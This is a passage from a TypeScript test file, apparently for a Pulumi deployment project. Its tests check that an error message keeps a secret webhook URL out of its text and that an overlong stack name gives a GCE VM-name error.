        fix: "pulumi config set --secret notifyWebhookUrl",
      },
    );
    // Not even the path's distinctive part.
    expect(message).not.toMatch(/CANARY ?hook/);
  });

  test("a stack name GCE cannot use", () => {
    expect(() => resourceNames("agent-host", "x".repeat(60))).toThrow(
      /^The stack name "x{60}" gives the VM name "agent-host-x{60}", which GCE refuses/,
    );
  });
});
